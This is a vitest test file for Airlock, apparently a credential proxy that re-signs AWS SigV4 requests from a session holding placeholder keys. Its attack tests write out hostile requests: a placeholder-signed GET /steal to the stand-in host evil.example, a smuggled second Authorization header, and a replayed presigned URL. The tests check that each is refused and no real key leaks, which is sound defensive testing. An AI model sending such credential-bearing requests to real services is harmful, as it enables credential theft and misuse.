// AWS SigV4 signed again on the host: the real AWS CLI (Debian's awscli) and botocore in a session
// that holds placeholder keys reach an AWS stand-in (S3, STS, Bedrock names through the resolve
// override) whose own verifier, written from the SigV4 description and sharing nothing with the
// proxy's signer, accepts only signatures made with the real keys. Without Airlock the same
// requests are rejected. Attacks: an unbound host, a scope that does not fit the host, a
// presigned URL, a second Authorization header, signed chunks, and reading the keys back.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, readdirSync, statSync, writeFileSync, chmodSync } from 'node:fs';
import { join } from 'node:path';
import pino from 'pino';
import { createTestPki, rmTmp, runCli, runProcess, startAirlock, startHttpsUpstream, tmpDir, waitFor } from '../helpers/servers.js';
import type { AirlockHandle, TestPki, TestUpstream } from '../helpers/servers.js';
import { openTunnelTls, rawExchange } from '../helpers/clients.js';
import { secretLeaks } from '../helpers/secret-leaks.js';
import { signV4, startAwsStandIn } from '../helpers/sigv4-standin.js';
import type { AwsKey, AwsStandIn } from '../helpers/sigv4-standin.js';
import { credentialsFactory, secretHandle, SecretSourceError } from '../../src/credentials/sources.js';
import { parsePolicy } from '../../src/policy/index.js';

// Debian's awscli (.ci/run installs it); its botocore also signs the Bedrock request below.
const AWS = '/usr/bin/aws';
const REAL: AwsKey = {
  accessKeyId: 'AKIAREALKEYID7EXAMPLE',
  secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYREALSECRETKEY',
  sessionToken: 'FwoGZXIvYXdzEREALSESSIONTOKENdGhpcyBpcyBub3QgYSByZWFsIHRva2Vu',
};
const BUCKET = 'airlock-test-bucket';
const S3_HOST = `${BUCKET}.s3.us-west-2.amazonaws.com`;
const NAMES = [S3_HOST, 's3.us-west-2.amazonaws.com', 'sts.us-west-2.amazonaws.com', 'sts.amazonaws.com', 'bedrock-runtime.us-west-2.amazonaws.com'];
const POLICY = `version: 1
name: aws-test
allow:
  - host: "*.amazonaws.com"
  - host: evil.example
credentials:
  - preset: aws
    secret: { aws: {} }
`;

let pki: TestPki;
let aws: AwsStandIn;
let evil: TestUpstream;
let airlock: AirlockHandle;
let logLines: string[];
let home: string;
let placeholderKey: string;

function resolveMap(): Record<string, number> {
  const map: Record<string, number> = { 'evil.example:443': evil.port };
  for (const name of NAMES) map[`${name}:443`] = aws.upstream.port;
  return map;
}

/** The session's environment for the AWS CLI: placeholders, the proxy, the session's CA. */
function awsEnv(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  return {
    PATH: process.env.PATH,
    HOME: home,
    ...airlock.session.credentials.sessionEnv,
    AWS_DEFAULT_REGION: 'us-west-2',
    AWS_CA_BUNDLE: airlock.bundlePath,
    HTTPS_PROXY: airlock.proxyUrl,
    AWS_CONFIG_FILE: join(home, 'aws-config'),
    AWS_SHARED_CREDENTIALS_FILE: '/dev/null',
    AWS_EC2_METADATA_DISABLED: 'true',
    AWS_STS_REGIONAL_ENDPOINTS: 'regional',
    AWS_PAGER: '',
    ...extra,
  };
}

const awsCli = (args: string[], extra: NodeJS.ProcessEnv = {}) => runProcess(AWS, args, { env: awsEnv(extra), cwd: home, timeoutMs: 60_000 });

/** The real values, in every encoding the proxy could produce, absent from `text`. */
function expectNoRealKeys(text: string): void {
  for (const v of [REAL.accessKeyId, REAL.secretAccessKey, REAL.sessionToken!]) expect(secretLeaks(text, v)).toEqual([]);
}

function filesUnder(path: string): string[] {
  return readdirSync(path).flatMap((name) => {
    const p = join(path, name);
    return statSync(p).isDirectory() ? filesUnder(p) : [readFileSync(p, 'latin1')];
  });
}

/** A request over a tunnel to `host`, by hand (for requests no real client would send). */
async function viaTunnel(host: string, request: string): Promise<string> {
  const tunnel = await openTunnelTls({ proxyPort: airlock.port, proxyAuthorization: airlock.proxyAuthorization, target: `${host}:443`, servername: host, ca: readFileSync(airlock.bundlePath, 'utf8') });
  try {
    // One request per tunnel: the answer ends when the connection does.
    return await rawExchange(tunnel, request.replace('\r\n', '\r\nConnection: close\r\n'));
  } finally {
    tunnel.destroy();
  }
}

/** A request signed with the session's placeholder keys, as the session's own clients would. */
function placeholderSigned(opts: { method: string; host: string; rawPath: string; payloadHash: string; region: string; service: string; headers?: Record<string, string> }): Record<string, string> {
  return signV4({ ...opts, key: { accessKeyId: placeholderKey, secretAccessKey: airlock.session.credentials.sessionEnv.AWS_SECRET_ACCESS_KEY! } });
}

const headLines = (headers: Record<string, string>) => Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('');
const EMPTY_SHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';

beforeAll(async () => {
  pki = await createTestPki();
  home = tmpDir('airlock-sigv4-');
  writeFileSync(join(home, 'aws-config'), '[default]\nregion = us-west-2\n');
  aws = await startAwsStandIn({ pki, names: NAMES, keys: [REAL] });
  evil = await startHttpsUpstream({ pki, names: ['evil.example'] });
  logLines = [];
  airlock = await startAirlock({
    policy: POLICY,
    resolve: resolveMap(),
    upstreamCa: [pki.caPem],
    log: pino({ base: null }, { write: (line: string) => logLines.push(line) }),
    credentials: credentialsFactory({ AWS_ACCESS_KEY_ID: REAL.accessKeyId, AWS_SECRET_ACCESS_KEY: REAL.secretAccessKey, AWS_SESSION_TOKEN: REAL.sessionToken }),
  });
  placeholderKey = airlock.session.credentials.sessionEnv.AWS_ACCESS_KEY_ID!;
}, 60_000);

afterAll(async () => {
  await airlock?.close();
  await aws?.close();
  await evil?.close();
  rmTmp(home, pki?.dir);
});

describe('the real AWS CLI through Airlock with placeholder keys', () => {
  it('the session holds placeholders only', () => {
    const env = airlock.session.credentials.sessionEnv;
    expect(env.AWS_ACCESS_KEY_ID).toMatch(/^airlock-aws-[0-9a-f]{24}$/);
    expect(env.AWS_SECRET_ACCESS_KEY).toMatch(/^airlock-aws-secret-[0-9a-f]{32}$/);
    expectNoRealKeys(JSON.stringify(env));
  });

  it('aws s3 cp up and down (UNSIGNED-PAYLOAD): re-signed requests pass the independent verifier', async () => {
    writeFileSync(join(home, 'hello.txt'), 'hello through airlock\n');
    const before = aws.seen.length;
    const up = await awsCli(['s3', 'cp', 'hello.txt', `s3://${BUCKET}/hello.txt`]);
    expect(up.code, up.stderr).toBe(0);
    expect(aws.objects.get('/hello.txt')?.toString()).toBe('hello through airlock\n');
    const down = await awsCli(['s3', 'cp', `s3://${BUCKET}/hello.txt`, '-']);
    expect(down.code, down.stderr).toBe(0);
    expect(down.stdout).toBe('hello through airlock\n');
    const seen = aws.seen.slice(before);
    expect(seen.length).toBeGreaterThanOrEqual(2);
    for (const s of seen) expect(s.verdict).toMatchObject({ ok: true, accessKeyId: REAL.accessKeyId, region: 'us-west-2', service: 's3' });
    expect(seen.some((s) => s.verdict.payload === 'UNSIGNED-PAYLOAD')).toBe(true);
    // The session token went along, real.
    for (const s of seen) expect(s.securityToken).toBe(REAL.sessionToken);
    expectNoRealKeys(up.stdout + up.stderr + down.stdout + down.stderr);
  });

  it('aws s3api put-object with a hashed payload (payload_signing_enabled)', async () => {
    writeFileSync(join(home, 'aws-config-signed'), '[default]\nregion = us-west-2\ns3 =\n  payload_signing_enabled = true\n');
    writeFileSync(join(home, 'body.bin'), Buffer.from('a body whose sha256 is signed\n'));
    const before = aws.seen.length;
    const r = await awsCli(['s3api', 'put-object', '--bucket', BUCKET, '--key', 'hashed.bin', '--body', 'body.bin'], { AWS_CONFIG_FILE: join(home, 'aws-config-signed') });
    expect(r.code, r.stderr).toBe(0);
    expect(aws.objects.get('/hashed.bin')?.toString()).toBe('a body whose sha256 is signed\n');
    const put = aws.seen.slice(before).find((s) => s.method === 'PUT')!;
    expect(put.verdict).toMatchObject({ ok: true, accessKeyId: REAL.accessKeyId });
    expect(put.verdict.payload).toMatch(/^[0-9a-f]{64}$/);
  });

  it('a large download in byte ranges (aws s3 cp over 8 MiB): ranges pass for a signing credential', async () => {
    const big = Buffer.alloc(12 * 1024 * 1024);
    for (let i = 0; i < big.length; i += 4096) big.write(`block ${i / 4096}\n`, i);
    writeFileSync(join(home, 'big.bin'), big);
    const up = await awsCli(['s3api', 'put-object', '--bucket', BUCKET, '--key', 'big.bin', '--body', 'big.bin']);
    expect(up.code, up.stderr).toBe(0);
    const before = aws.seen.length;
    const down = await awsCli(['s3', 'cp', '--only-show-errors', `s3://${BUCKET}/big.bin`, 'big-copy.bin']);
    expect(down.code, down.stderr).toBe(0);
    expect(readFileSync(join(home, 'big-copy.bin')).equals(big)).toBe(true);
    const ranged = aws.seen.slice(before).filter((s) => s.range);
    expect(ranged.length).toBeGreaterThanOrEqual(2);
    for (const s of ranged) expect(s.verdict.ok).toBe(true);
  }, 90_000);

  it('aws sts get-caller-identity (a form POST: the proxy hashes the body); the echoed key id comes back as the placeholder', async () => {
    const before = aws.seen.length;
    const r = await awsCli(['sts', 'get-caller-identity', '--output', 'json']);
    expect(r.code, r.stderr).toBe(0);
    const seen = aws.seen.slice(before);
    expect(seen).toHaveLength(1);
    expect(seen[0]!.verdict).toMatchObject({ ok: true, service: 'sts', region: 'us-west-2', payload: 'body-hash' });
    // The stand-in echoed the real key id; the session reads its placeholder instead.
    expect(JSON.parse(r.stdout)).toMatchObject({ UserId: placeholderKey, Account: '123456789012' });
    expectNoRealKeys(r.stdout + r.stderr);
    const line = await airlock.waitForAudit((l) => l.host === 'sts.us-west-2.amazonaws.com');
    expect(line.credentials).toEqual(['aws']);
  });

  it('a Bedrock InvokeModel POST signed by botocore (the AWS CLI\'s SDK) for service bedrock', async () => {
    // Debian's awscli predates bedrock-runtime; its botocore signs the same request the newer CLI sends.
    const script = `
import awscli, json, os, ssl, urllib.request
import botocore.auth, botocore.awsrequest, botocore.credentials
url = 'https://bedrock-runtime.us-west-2.amazonaws.com/model/anthropic.claude-3-haiku-20240307-v1%3A0/invoke'
body = json.dumps({'anthropic_version': 'bedrock-2023-05-31', 'max_tokens': 10, 'messages': [{'role': 'user', 'content': 'hi from the session'}]}).encode()
req = botocore.awsrequest.AWSRequest(method='POST', url=url, data=body, headers={'content-type': 'application/json', 'accept': 'application/json'})
creds = botocore.credentials.Credentials(os.environ['AWS_ACCESS_KEY_ID'], os.environ['AWS_SECRET_ACCESS_KEY'])
botocore.auth.SigV4Auth(creds, 'bedrock', 'us-west-2').add_auth(req)
prepared = req.prepare()
ctx = ssl.create_default_context(cafile=os.environ['AWS_CA_BUNDLE'])
opener = urllib.request.build_opener(urllib.request.ProxyHandler({'https': os.environ['HTTPS_PROXY']}), urllib.request.HTTPSHandler(context=ctx))
r = opener.open(urllib.request.Request(url, data=body, headers=dict(prepared.headers), method='POST'), timeout=30)
print(r.status, r.read().decode())
`;
    const before = aws.seen.length;
    const r = await runProcess('/usr/bin/python3', ['-c', script], { env: awsEnv(), timeoutMs: 60_000 });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('200 ');
    expect(r.stdout).toContain('bedrock stand-in heard: hi from the session');
    expect(aws.seen.slice(before)).toHaveLength(1);
    expect(aws.seen.at(-1)!.verdict).toMatchObject({ ok: true, service: 'bedrock', region: 'us-west-2', payload: 'body-hash', accessKeyId: REAL.accessKeyId });
    expect(aws.seen.at(-1)!.path).toBe('/model/anthropic.claude-3-haiku-20240307-v1%3A0/invoke');
  });

  it('without Airlock, the same CLI request signed with the placeholders is rejected by the stand-in', async () => {
    const before = aws.seen.length;
    const r = await runProcess(AWS, ['s3api', 'put-object', '--bucket', BUCKET, '--key', 'direct.txt', '--body', 'hello.txt', '--endpoint-url', `https://127.0.0.1:${aws.upstream.port}`, '--no-verify-ssl'], {
      env: { ...awsEnv(), HTTPS_PROXY: '' },
      cwd: home,
      timeoutMs: 60_000,
    });
    expect(r.code).not.toBe(0);
    expect(r.stderr).toContain('InvalidAccessKeyId');
    expect(aws.seen.slice(before).every((s) => !s.verdict.ok && s.verdict.accessKeyId === placeholderKey)).toBe(true);
    expect(aws.objects.has('/direct.txt')).toBe(false);
  });

  it('the placeholder key id never reached the stand-in through Airlock', () => {
    const throughAirlock = aws.seen.filter((s) => s.verdict.accessKeyId !== placeholderKey || s.verdict.ok);
    expect(throughAirlock.length).toBeGreaterThan(4);
    for (const s of throughAirlock) expect(s.authorization.join('\n')).not.toContain(placeholderKey);
  });
});

describe('payload forms', () => {
  it('STREAMING-UNSIGNED-PAYLOAD-TRAILER (aws-chunked with an unsigned trailer) is signed and streams through', async () => {
    const content = 'chunked content\n';
    const body = `${Buffer.byteLength(content).toString(16)}\r\n${content}\r\n0\r\nx-amz-checksum-crc32:AAAAAA==\r\n\r\n`;
    const headers = placeholderSigned({
      method: 'PUT',
      host: S3_HOST,
      rawPath: '/trailer.txt',
      payloadHash: 'STREAMING-UNSIGNED-PAYLOAD-TRAILER',
      region: 'us-west-2',
      service: 's3',
      headers: { 'content-encoding': 'aws-chunked', 'x-amz-decoded-content-length': String(Buffer.byteLength(content)), 'x-amz-trailer': 'x-amz-checksum-crc32' },
    });
    const answer = await viaTunnel(S3_HOST, `PUT /trailer.txt HTTP/1.1\r\nHost: ${S3_HOST}\r\n${headLines(headers)}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
    expect(answer).toMatch(/^HTTP\/1\.1 200 /);
    expect(aws.objects.get('/trailer.txt')?.toString()).toBe(content);
    expect(aws.seen.at(-1)!.verdict).toMatchObject({ ok: true, payload: 'STREAMING-UNSIGNED-PAYLOAD-TRAILER' });
  });

  it('signed chunks (STREAMING-AWS4-HMAC-SHA256-PAYLOAD) are refused with what to do instead; nothing is sent', async () => {
    const before = aws.seen.length;
    const headers = placeholderSigned({ method: 'PUT', host: S3_HOST, rawPath: '/signed-chunks.txt', payloadHash: 'STREAMING-AWS4-HMAC-SHA256-PAYLOAD', region: 'us-west-2', service: 's3' });
    const answer = await viaTunnel(S3_HOST, `PUT /signed-chunks.txt HTTP/1.1\r\nHost: ${S3_HOST}\r\n${headLines(headers)}Content-Length: 0\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('credential_misuse');
    expect(answer).toContain('Upload with an unsigned payload');
    expect(aws.seen.length).toBe(before);
  });
});

describe('attacks from the session', () => {
  it('a placeholder-signed request to a host the credential is not bound to is refused; that host sees nothing', async () => {
    const headers = placeholderSigned({ method: 'GET', host: 'evil.example', rawPath: '/steal', payloadHash: EMPTY_SHA, region: 'us-west-2', service: 's3' });
    const answer = await viaTunnel('evil.example', `GET /steal HTTP/1.1\r\nHost: evil.example\r\n${headLines(headers)}\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('credential_misuse');
    expect(answer).toContain('bound to *.amazonaws.com, not evil.example');
    expect(evil.requests).toHaveLength(0);
    expectNoRealKeys(answer);
  });

  it.each([
    ['another region', 'us-east-1', 's3'],
    ['another service', 'us-west-2', 'sts'],
    ['a service of another host', 'us-west-2', 'bedrock'],
  ])('a scope for %s than the host is refused, not signed', async (_what, region, service) => {
    const before = aws.seen.length;
    const headers = placeholderSigned({ method: 'GET', host: S3_HOST, rawPath: '/hello.txt', payloadHash: EMPTY_SHA, region, service });
    const answer = await viaTunnel(S3_HOST, `GET /hello.txt HTTP/1.1\r\nHost: ${S3_HOST}\r\n${headLines(headers)}\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain(`the signature's scope (${region}/${service}) does not fit the host`);
    expect(aws.seen.length).toBe(before);
  });

  it('a Host header naming another AWS host than the tunnel is refused before any signing', async () => {
    const before = aws.seen.length;
    const headers = placeholderSigned({ method: 'POST', host: 'sts.us-west-2.amazonaws.com', rawPath: '/', payloadHash: EMPTY_SHA, region: 'us-west-2', service: 'sts' });
    const answer = await viaTunnel(S3_HOST, `POST / HTTP/1.1\r\nHost: sts.us-west-2.amazonaws.com\r\n${headLines(headers)}Content-Length: 0\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 4\d\d /);
    expect(aws.seen.length).toBe(before);
  });

  it('a presigned URL from aws s3 presign is refused, not signed again', async () => {
    const presign = await awsCli(['s3', 'presign', `s3://${BUCKET}/hello.txt`, '--expires-in', '600']);
    expect(presign.code, presign.stderr).toBe(0);
    const url = presign.stdout.trim();
    expect(url).toContain('X-Amz-Credential=' + placeholderKey);
    const before = aws.seen.length;
    const r = await runProcess('curl', ['-sS', '--suppress-connect-headers', '-i', url], { env: awsEnv({ CURL_CA_BUNDLE: airlock.bundlePath }), timeoutMs: 30_000 });
    expect(r.stdout).toMatch(/^HTTP\/1\.1 403 /);
    expect(r.stdout).toContain('presigned URLs (X-Amz-Credential in the query) are not signed again by Airlock');
    expect(aws.seen.length).toBe(before);
    expectNoRealKeys(r.stdout + r.stderr);
  });

  it('a second Authorization header smuggled beside the signed one is refused; nothing is sent', async () => {
    const before = aws.seen.length;
    const headers = placeholderSigned({ method: 'GET', host: S3_HOST, rawPath: '/hello.txt', payloadHash: EMPTY_SHA, region: 'us-west-2', service: 's3' });
    for (const order of ['after', 'before']) {
      const extra = 'Authorization: AWS4-HMAC-SHA256 Credential=AKIAATTACKER/20260101/us-west-2/s3/aws4_request, SignedHeaders=host, Signature=00\r\n';
      const head = order === 'after' ? headLines(headers) + extra : extra + headLines(headers);
      const answer = await viaTunnel(S3_HOST, `GET /hello.txt HTTP/1.1\r\nHost: ${S3_HOST}\r\n${head}\r\n`);
      expect(answer).toMatch(/^HTTP\/1\.1 403 /);
      expect(answer).toContain('Authorization headers; a SigV4 request has one');
    }
    expect(aws.seen.length).toBe(before);
  });

  it('a query that is not valid percent-encoding is refused, not sent', async () => {
    const before = aws.seen.length;
    const headers = placeholderSigned({ method: 'GET', host: S3_HOST, rawPath: '/hello.txt?x=%41', payloadHash: EMPTY_SHA, region: 'us-west-2', service: 's3' });
    const answer = await viaTunnel(S3_HOST, `GET /hello.txt?x=%E0%A4%A HTTP/1.1\r\nHost: ${S3_HOST}\r\n${headLines(headers)}\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 4\d\d /);
    expect(aws.seen.length).toBe(before);
  });

  it('the placeholder outside SigV4 (a Bearer token) is refused', async () => {
    const answer = await viaTunnel(S3_HOST, `GET /hello.txt HTTP/1.1\r\nHost: ${S3_HOST}\r\nAuthorization: Bearer ${placeholderKey}\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 403 /);
    expect(answer).toContain('can only be used to sign with AWS4-HMAC-SHA256');
  });

  it('over plain http the placeholder is refused', async () => {
    const r = await runProcess('curl', ['-sS', '-i', '-x', airlock.proxyUrl, '-H', `Authorization: AWS4-HMAC-SHA256 Credential=${placeholderKey}/20260101/us-west-2/s3/aws4_request, SignedHeaders=host, Signature=00`, `http://${S3_HOST}/hello.txt`], { timeoutMs: 30_000 });
    expect(r.stdout).toMatch(/^HTTP\/1\.1 403 /);
    expect(r.stdout).toContain('never sent over plain http');
  });

  it('an endpoint echoing the request shows the session its placeholders, never the real key id or session token', async () => {
    const headers = placeholderSigned({ method: 'GET', host: S3_HOST, rawPath: '/echo-headers', payloadHash: EMPTY_SHA, region: 'us-west-2', service: 's3' });
    const answer = await viaTunnel(S3_HOST, `GET /echo-headers HTTP/1.1\r\nHost: ${S3_HOST}\r\n${headLines(headers)}\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 200 /);
    // The stand-in did get (and echo) the real ones: the scrub is what keeps them out.
    expect(aws.seen.at(-1)!.verdict).toMatchObject({ ok: true, accessKeyId: REAL.accessKeyId });
    expect(answer).toContain(`Credential=${placeholderKey}/`);
    expectNoRealKeys(answer);
    const line = await airlock.waitForAudit((l) => l.path === '/echo-headers');
    expect(line.detail).toBe('secret_scrubbed');
  });

  it('nothing real in the audit log, the proxy log or the session directory', async () => {
    const audit = await airlock.auditLines();
    expect(audit.length).toBeGreaterThan(5);
    expectNoRealKeys(JSON.stringify(audit) + logLines.join('') + filesUnder(airlock.session.dir).join(''));
  });
});

describe('limits', () => {
  it('a session cannot have more than 64 MiB of bodies read for signing at once', async () => {
    const spec = parsePolicy(POLICY, 'p.yaml').credentials[0]!;
    const handle = secretHandle(spec, { AWS_ACCESS_KEY_ID: REAL.accessKeyId, AWS_SECRET_ACCESS_KEY: REAL.secretAccessKey });
    const placeholder = 'airlock-aws-0123456789abcdef01234567';
    const size = 32 * 1024 * 1024;
    const request = (readBody: () => Promise<Buffer>) => ({
      scheme: 'https' as const,
      host: 'bedrock-runtime.us-west-2.amazonaws.com',
      port: 443,
      pathWithQuery: '/model/m/invoke',
      method: 'POST',
      contentType: 'application/json',
      headers: ['Host', 'bedrock-runtime.us-west-2.amazonaws.com', 'Content-Length', String(size), 'Authorization', `AWS4-HMAC-SHA256 Credential=${placeholder}/20260101/us-west-2/bedrock/aws4_request, SignedHeaders=host, Signature=00`],
      readBody,
    });
    // Two uploads whose bodies are still arriving hold the whole budget.
    const slow: (() => void)[] = [];
    const pending = [0, 1].map(() => handle.signer!.resign(request(() => new Promise((resolve) => slow.push(() => resolve(Buffer.alloc(size))))), placeholder, null));
    await waitFor(() => slow.length === 2, 2_000, 'both bodies being read');
    const third = await handle.signer!.resign(request(async () => Buffer.alloc(size)), placeholder, null);
    expect(third).toMatchObject({ kind: 'refused', where: 'body' });
    expect((third as { why: string }).why).toContain('the most at once is 67108864');
    for (const release of slow) release();
    for (const outcome of await Promise.all(pending)) expect(outcome).toMatchObject({ kind: 'signed' });
    // Once they are read, the budget is back.
    expect(await handle.signer!.resign(request(async () => Buffer.alloc(10)), placeholder, null)).toMatchObject({ kind: 'signed' });
  });
});

describe('failures', () => {
  it('AWS refusing for clock skew: the audit line and the proxy log say the host clock is off', async () => {
    aws.skewMs = 20 * 60_000;
    try {
      const r = await awsCli(['s3api', 'head-object', '--bucket', BUCKET, '--key', 'hello.txt']);
      expect(r.code).not.toBe(0);
      const line = await airlock.waitForAudit((l) => String(l.detail ?? '').startsWith('aws_clock_skew'));
      expect(line.detail).toMatch(/clock is 1(19\d|20\d) s ahead of this host's; AWS refuses signatures more than 5 minutes off\. Set this host's clock right \(NTP\)/);
      await waitFor(() => logLines.some((l) => l.includes('aws_clock_skew')), 5_000, 'a log line');
    } finally {
      aws.skewMs = 0;
    }
  }, 90_000);

  it('keys missing from the environment: a start error naming the variables', () => {
    const spec = parsePolicy(POLICY, 'p.yaml').credentials[0]!;
    expect(() => secretHandle(spec, { AWS_ACCESS_KEY_ID: REAL.accessKeyId })).toThrow(SecretSourceError);
    expect(() => secretHandle(spec, { AWS_ACCESS_KEY_ID: REAL.accessKeyId })).toThrow(/AWS_SECRET_ACCESS_KEY is not set/);
  });

  it('a profile that fails when a request needs it: 502 naming the credential and the fix, audited and logged', async () => {
    const dir = tmpDir('airlock-sigv4-late-');
    const lines: string[] = [];
    const late = await startAirlock({
      policy: POLICY.replace('secret: { aws: {} }', 'secret: { aws: { profile: bedrock } }'),
      resolve: resolveMap(),
      upstreamCa: [pki.caPem],
      log: pino({ base: null }, { write: (line: string) => lines.push(line) }),
      credentials: credentialsFactory({ HOME: dir, AWS_CONFIG_FILE: join(dir, 'none'), AWS_SHARED_CREDENTIALS_FILE: join(dir, 'none') }),
    });
    try {
      const before = aws.seen.length;
      const key = late.session.credentials.sessionEnv.AWS_ACCESS_KEY_ID!;
      const headers = signV4({ method: 'GET', host: S3_HOST, rawPath: '/hello.txt', payloadHash: EMPTY_SHA, region: 'us-west-2', service: 's3', key: { accessKeyId: key, secretAccessKey: 'x' } });
      const tunnel = await openTunnelTls({ proxyPort: late.port, proxyAuthorization: late.proxyAuthorization, target: `${S3_HOST}:443`, servername: S3_HOST, ca: readFileSync(late.bundlePath, 'utf8') });
      const answer = await rawExchange(tunnel, `GET /hello.txt HTTP/1.1\r\nHost: ${S3_HOST}\r\nConnection: close\r\n${headLines(headers)}\r\n`);
      tunnel.destroy();
      expect(answer).toMatch(/^HTTP\/1\.1 502 /);
      expect(answer).toContain('credential "aws" (AWS keys of the host\'s profile bedrock) is unavailable');
      expect(answer).toContain('aws sso login --profile bedrock');
      expect(aws.seen.length).toBe(before);
      const line = await late.waitForAudit((l) => l.path === '/hello.txt');
      expect(line).toMatchObject({ status: 502, reason: 'upstream_error', detail: 'credential unavailable' });
      await waitFor(() => lines.some((l) => l.includes('AWS profile bedrock gave no usable keys')), 5_000, 'the log line');
    } finally {
      await late.close();
      rmTmp(dir);
    }
  });

  it('a profile without keys: airlock exec says which credential and profile, and no secret', async () => {
    const dir = tmpDir('airlock-sigv4-profile-');
    try {
      writeFileSync(join(dir, 'config'), '[profile other]\nregion = us-west-2\n');
      writeFileSync(join(dir, 'policy.yaml'), POLICY.replace('secret: { aws: {} }', 'secret: { aws: { profile: bedrock } }'));
      const r = await runCli(['exec', '--policy', join(dir, 'policy.yaml'), '--state-dir', join(dir, 'state'), '--', 'true'], {
        env: { PATH: process.env.PATH, HOME: dir, AWS_CONFIG_FILE: join(dir, 'config'), AWS_SHARED_CREDENTIALS_FILE: join(dir, 'nope') },
        timeoutMs: 30_000,
      });
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain('credential "aws": AWS profile bedrock gave no usable keys');
    } finally {
      rmTmp(dir);
    }
  });
});

describe('airlock exec with keys from a credential_process profile', () => {
  it('the AWS CLI in the session copies to S3 with placeholders; the child env and outputs hold nothing real', async () => {
    const dir = tmpDir('airlock-sigv4-exec-');
    try {
      const helper = join(dir, 'issue-keys');
      writeFileSync(helper, `#!/bin/sh\nprintf '%s' '${JSON.stringify({ Version: 1, AccessKeyId: REAL.accessKeyId, SecretAccessKey: REAL.secretAccessKey, SessionToken: REAL.sessionToken, Expiration: new Date(Date.now() + 3600_000).toISOString() })}'\n`);
      chmodSync(helper, 0o700);
      writeFileSync(join(dir, 'host-config'), `[profile bedrock]\ncredential_process = ${helper}\n`);
      writeFileSync(join(dir, 'policy.yaml'), POLICY.replace('secret: { aws: {} }', 'secret: { aws: { profile: bedrock } }'));
      writeFileSync(join(dir, 'upload.txt'), 'from airlock exec\n');
      const resolve = NAMES.flatMap((n) => ['--resolve', `${n}:443:127.0.0.1:${aws.upstream.port}`]);
      const script = [
        'set -e',
        `${AWS} s3 cp --only-show-errors upload.txt s3://${BUCKET}/exec.txt`,
        `${AWS} sts get-caller-identity --query UserId --output text`,
        'env > child-env.txt',
      ].join('\n');
      const r = await runCli(['exec', '--policy', join(dir, 'policy.yaml'), '--state-dir', join(dir, 'state'), ...resolve, '--upstream-ca', pki.caFile, '--', 'sh', '-c', script], {
        cwd: dir,
        env: {
          PATH: process.env.PATH,
          HOME: dir,
          AWS_CONFIG_FILE: join(dir, 'host-config'),
          AWS_DEFAULT_REGION: 'us-west-2',
          AWS_STS_REGIONAL_ENDPOINTS: 'regional',
          AWS_EC2_METADATA_DISABLED: 'true',
        },
        timeoutMs: 90_000,
      });
      expect(r.code, r.stderr).toBe(0);
      expect(aws.objects.get('/exec.txt')?.toString()).toBe('from airlock exec\n');
      const childEnv = readFileSync(join(dir, 'child-env.txt'), 'utf8');
      const keyId = /^AWS_ACCESS_KEY_ID=(.*)$/m.exec(childEnv)?.[1];
      expect(keyId).toMatch(/^airlock-aws-[0-9a-f]{24}$/);
      expect(r.stdout.trim()).toBe(keyId);
      expect(childEnv).toMatch(/^AWS_CA_BUNDLE=/m);
      expectNoRealKeys(r.stdout + r.stderr + childEnv + filesUnder(join(dir, 'state')).join(''));
    } finally {
      rmTmp(dir);
    }
  }, 120_000);
});
